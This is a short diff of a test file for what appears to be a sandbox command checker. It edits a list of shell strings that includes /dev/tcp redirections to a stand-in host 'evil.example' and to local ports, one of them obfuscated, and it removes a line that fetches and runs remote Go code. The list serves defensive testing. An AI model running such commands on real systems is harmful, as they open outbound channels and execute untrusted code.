@@ -96,7 +96,6 @@ const READS = new Set([
   "cat < /dev/$x/evil.example/80",
   "x=tcp; echo y > /dev/$x/127.0.0.1/80",
   "ls > /dev/tcp/127.0.0.1/22",
-  "go run example.com/evil@latest",
 ]);
 
 test("no attack on something outside of the box is contained where a host is granted", () => {
